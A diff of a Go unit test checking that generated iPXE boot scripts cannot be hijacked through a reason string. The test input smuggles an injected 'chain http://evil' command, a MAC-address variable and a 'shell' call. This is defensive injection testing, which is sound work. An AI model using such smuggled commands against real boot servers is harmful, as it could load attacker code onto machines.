@@ -222,8 +222,8 @@ chain --replace http://10.77.0.1/ipxe/52:54:00:00:00:01 || goto failed
 
 // A reason with iPXE syntax in it must not run commands on the machine.
 func TestDeniedScript(t *testing.T) {
-	s := Denied("bad\nchain http://evil ${net0/mac} && shell | x")
-	if !strings.HasSuffix(s, "exit\n") || strings.Contains(s, "\nchain") || strings.ContainsAny(s, "${}&|") {
+	s := Local("bad\nchain http://evil ${net0/mac} && shell | x")
+	if !strings.HasSuffix(s, "exit 1\n") || strings.Contains(s, "\nchain") || strings.ContainsAny(s, "${}&|") {
 		t.Errorf("script:\n%s", s)
 	}
 }
